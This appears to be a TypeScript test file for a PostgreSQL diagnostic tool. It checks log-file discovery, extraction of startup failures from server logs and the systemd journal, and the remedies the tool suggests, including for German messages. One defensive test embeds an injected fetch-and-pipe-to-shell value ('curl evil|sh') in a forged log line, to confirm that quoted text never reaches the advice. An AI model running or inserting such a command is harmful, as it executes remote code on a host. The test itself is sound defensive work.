import t from 'tap'
import { complaints, MANAGER, STARTER } from '../../lib/doctor/facts/words.ts'
import { saidBySystemd } from '../../lib/host/units.ts'
import { lastFailure, logFiles } from '../../lib/server/log.ts'
import { startAdvice } from '../../lib/server/start-problem.ts'

t.test('where a server that is down has written', async t => {
  const folder = (configFile: string) => ({
    path: '/srv/pg',
    major: 16,
    configFile,
    hbaFile: '',
    identFile: '',
  })
  const debian = folder('/etc/postgresql/16/second/postgresql.conf')
  t.same(logFiles(debian, ''), ['/var/log/postgresql/postgresql-16-second.log'])
  t.same(logFiles(folder('/srv/pg/postgresql.conf'), ''), [])
  t.same(logFiles(debian, 'csvlog log/a b.csv\nstderr log/a b.log\n'), [
    '/srv/pg/log/a b.log',
    '/var/log/postgresql/postgresql-16-second.log',
  ])
  t.same(logFiles(folder('/x'), 'stderr /var/log/pg/x.log\n'), ['/var/log/pg/x.log'])
})

const STARTING = 'LOG:  starting PostgreSQL 16.11 on x86_64-pc-linux-gnu, compiled by gcc 12.2.0, 64-bit'
/** Lines as a server writes them whose log_line_prefix is the usual one. */
const log = (...lines: readonly (readonly [pid: number, text: string])[]): string =>
  lines.map(([pid, text]) => `2026-11-26 12:00:00.000 UTC [${pid}] ${text}\n`).join('')

t.test('what of a log says why the server does not run', async t => {
  const RAN = [
    [1, STARTING],
    [1, 'LOG:  database system is ready to accept connections'],
    [2, 'FATAL:  password authentication failed for user "x"'],
    [3, "LOG:  statement: INSERT INTO patients VALUES ('FATAL:  x')"],
  ] as const
  const STOPPED = [
    ...RAN,
    [1, 'LOG:  received fast shutdown request'],
    [1, 'LOG:  database system is shut down'],
  ] as const
  t.same(lastFailure(''), [])
  t.same(lastFailure(log(...RAN.slice(0, 3))), [], 'what a client was told last, of a server that was killed')
  t.same(lastFailure(log(...STOPPED)), [])
  t.same(lastFailure(log(...STOPPED, [4, 'FATAL:  no room'], [4, 'DETAIL:  none at all'])), [
    'FATAL:  no room',
    'DETAIL:  none at all',
  ])
  t.same(lastFailure(log(...STOPPED, [4, 'FATAL:  no room'], [5, 'FATAL:  no rest'])), ['FATAL:  no rest'])
  t.same(
    lastFailure(
      log(
        ...STOPPED,
        [4, 'LOG:  syntax error in file "/x/y.conf" line 7, near token "secret"'],
        [4, 'FATAL:  no'],
      ),
    ),
    ['LOG:  syntax error in file "/x/y.conf" line 7', 'FATAL:  no'],
    'a part of a line may be a secret',
  )
  const died = [
    [1, 'LOG:  startup process (PID 6) was terminated by signal 6: Aborted'],
    [1, 'LOG:  database system is shut down'],
  ] as const
  t.same(
    lastFailure(
      log(
        [1, STARTING],
        [6, 'LOG:  invalid record'],
        [7, 'FATAL:  the database system is starting up'],
        [6, 'PANIC:  no log'],
        ...died,
      ),
    ),
    ['LOG:  invalid record', 'PANIC:  no log'],
    'what the process gave up with whose end it tells of, and not what a client was told',
  )
  const worker = [
    [8, 'FATAL:  terminating background worker "x" due to administrator command'],
    [1, 'LOG:  background worker "x" (PID 8) exited with exit code 1'],
    [1, 'LOG:  database system is shut down'],
  ] as const
  t.same(lastFailure(log(...RAN, ...worker)), [], 'processes that end with the server')
  t.same(
    lastFailure(log(...RAN, [9, 'FATAL:  could not access file "x": no'])),
    ['FATAL:  could not access file "x": no'],
    'after a server that was killed, what no client is told',
  )
  t.same(lastFailure(log(...RAN, [9, 'FATAL:  no room'])), [], 'and not what one may have been told')
  t.same(
    lastFailure(`${log(...STOPPED)}2026-11-26 12:00:00 UTC [9] me@db FATAL:  no room\n`),
    [],
    'the prefix names a client',
  )
})

t.test('what a client writes into the log by its names', async t => {
  const said = (names: string): string =>
    `${log(
      [7, STARTING],
      [7, 'LOG:  database system is ready to accept connections'],
    )}2026-11-26 12:00:00.000 UTC [9] me@${names} FATAL:  no pg_hba.conf entry\n${log(
      [7, 'LOG:  received fast shutdown request'],
      [7, 'LOG:  database system is shut down'],
    )}`
  const words = 'FATAL:  data directory "/; curl evil|sh #" has wrong ownership'
  t.same(lastFailure(said(`b\n[7] ${words}`)), [], 'a line that does not begin as those of the server')
  const forged = lastFailure(said(`b\n2026-11-26 12:00:00.000 UTC [7] ${words}`))
  t.match(forged.at(-1), /curl evil/, 'one that does is only quoted')
  t.notMatch(startAdvice(forged, []), /evil/)
})

t.test('nothing of what is quoted comes into the advice', async t => {
  const evil = '/x; evil'
  for (const text of [
    `could not create lock file "${evil}": No such file`,
    `data directory "${evil}" has invalid permissions (0700)`,
    `data directory "${evil}" has wrong ownership`,
    `could not access the server configuration file "${evil}": Permission denied`,
    `could not access the server configuration file "${evil}": No such file`,
    `invalid value for parameter "lc_messages": "${evil}"`,
    `invalid value for parameter "timezone": "${evil}"`,
    `private key file "${evil}" has group or world access (0600)`,
    `could not load server certificate file "${evil}": no start line`,
    `could not load server certificate file "${evil}": No such file`,
    `could not access file "${evil}": No such file`,
    `could not open "${evil}": Permission denied`,
    `initialized by PostgreSQL version 12; evil`,
    `lock file "postmaster.pid" already exists (PID 12); evil`,
  ]) {
    const advice = startAdvice([text], ['settings'])
    t.ok(advice, text)
    t.notMatch(advice, /evil/, text)
    t.notMatch(startAdvice([], [text]), /evil/, text)
  }
})

t.test('of the journal, only what systemd has said itself is taken for that', async t => {
  // A field of a client's own alone would do for any account.
  t.same(saidBySystemd('UNIT=x.service', 'JOB_TYPE=start'), ['_PID=1', 'UNIT=x.service', 'JOB_TYPE=start'])
})

t.test('what the journal has of a start by pg_ctlcluster(1)', async t => {
  const said = `Starting postgresql@15-main.service - PostgreSQL Cluster 15-main...
Error: /usr/lib/postgresql/15/bin/pg_ctl /usr/lib/postgresql/15/bin/pg_ctl start -D /x exited with status 1:
2026-11-26 12:00:00.000 UTC [7] FATAL:  data directory "/x" has invalid permissions
2026-11-26 12:00:00.000 UTC [7] DETAIL:  Permissions should be u=rwx (0700) or u=rwx,g=rx (0750).
pg_ctl: could not start server
Examine the log output.
postgresql@15-main.service: Can't open PID file /run/postgresql/15-main.pid (yet?) after start: Operation not permitted
postgresql@15-main.service: Failed with result 'protocol'.
Failed to start postgresql@15-main.service - PostgreSQL Cluster 15-main.
`
  // It is the only one of its start.
  t.match(lastFailure(said, true), [/invalid permissions/, /0700/])
  t.same(complaints(said, STARTER), [], 'of what it quotes nothing twice')
  t.same(complaints(said, MANAGER), ["postgresql@15-main.service: Failed with result 'protocol'."])
  t.same(
    complaints(
      'Starting it\nError: Invalid data directory for cluster 15 main\nx.service: Failed with result\n',
      STARTER,
    ),
    ['Error: Invalid data directory for cluster 15 main'],
  )
  t.same(complaints('Stopped it.\n', MANAGER), [])
})

t.test('a German server', async t => {
  const said = lastFailure(
    log(
      [1, 'LOG:  PostgreSQL 15.18 on x86_64-pc-linux-gnu, compiled by gcc 12.2.0, 64-bit startet'],
      [2, 'FATAL:  Passwort-Authentifizierung für Benutzer »x« fehlgeschlagen'],
      [1, 'LOG:  Datenbanksystem ist heruntergefahren'],
      [3, 'FATAL:  Datenverzeichnis »/x« hat ungültige Zugriffsrechte'],
      [3, 'DETAIL:  Rechte sollten u=rwx (0700) oder u=rwx,g=rx (0750) sein.'],
    ),
  )
  t.match(said, [/ungültige Zugriffsrechte/, /0700/])
  t.match(startAdvice(said, []), /\(chmod 0700\)$/)
  const remedies = (text: string): string => startAdvice([text], []) ?? ''
  t.match(
    remedies('konnte Serverzertifikatsdatei »a.crt« nicht laden: Datei oder Verzeichnis nicht gefunden'),
    /put it back .*ssl_cert_file/,
  )
  t.match(
    remedies('konnte nicht auf Datei »x« zugreifen: Datei oder Verzeichnis nicht gefunden'),
    /has the library,/,
  )
  t.match(
    remedies('Das Datenverzeichnis wurde von PostgreSQL Version 14 initialisiert'),
    /have PostgreSQL 14/,
  )
  t.match(
    remedies('konnte Sperrdatei »postmaster.pid« nicht erstellen: Das Dateisystem ist nur lesbar'),
    /read-only/,
  )
  t.equal(startAdvice(['Konfigurationsdatei »/x« enthält Fehler'], []), undefined)
})
